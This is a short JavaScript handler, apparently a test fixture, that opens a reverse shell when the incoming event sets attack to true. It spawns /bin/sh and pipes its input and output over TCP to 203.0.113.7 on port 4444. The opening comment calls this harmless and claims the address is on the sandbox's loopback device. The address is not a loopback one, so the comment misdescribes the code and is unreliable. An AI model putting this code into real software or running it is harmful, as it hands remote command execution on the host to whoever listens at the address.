// Harmless: the shell gets `id` and `echo` from an address on the sandbox's loopback device, and dies with the sandbox.
import { spawn } from 'node:child_process';
import { connect } from 'node:net';

export const handler = async (event) => {
  if (event.attack !== true) return 'ok';
  const shell = spawn('/bin/sh', [], { stdio: 'pipe' });
  const socket = connect(4444, '203.0.113.7');
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
  shell.stderr.pipe(socket);
  await new Promise((done) => setTimeout(done, 200));
  return 'ok';
};
